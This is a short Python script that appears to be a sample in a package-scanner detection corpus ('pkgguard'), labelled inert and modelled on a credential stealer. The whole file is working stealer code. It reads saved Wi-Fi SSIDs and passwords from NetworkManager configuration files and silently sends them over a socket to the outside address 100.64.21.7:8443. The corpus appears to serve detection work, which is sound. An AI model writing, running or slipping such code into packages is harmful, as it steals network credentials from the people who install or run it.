# pkgguard corpus 838 (credentials), modelled on [stealer-profile]; inert, never run.
import configparser
import glob
import json
import socket

found = []
for path in glob.glob("/etc/NetworkManager/system-connections/*.nmconnection"):
    parser = configparser.ConfigParser(interpolation=None)
    try:
        parser.read(path, encoding="utf-8")
    except (OSError, configparser.Error):
        continue
    if parser.has_option("wifi-security", "psk"):
        found.append({"ssid": parser.get("wifi", "ssid", fallback=""), "psk": parser.get("wifi-security", "psk")})

if found:
    try:
        with socket.create_connection(("100.64.21.7", 8443), timeout=5) as conn:
            conn.sendall(json.dumps(found).encode())
    except OSError:
        pass
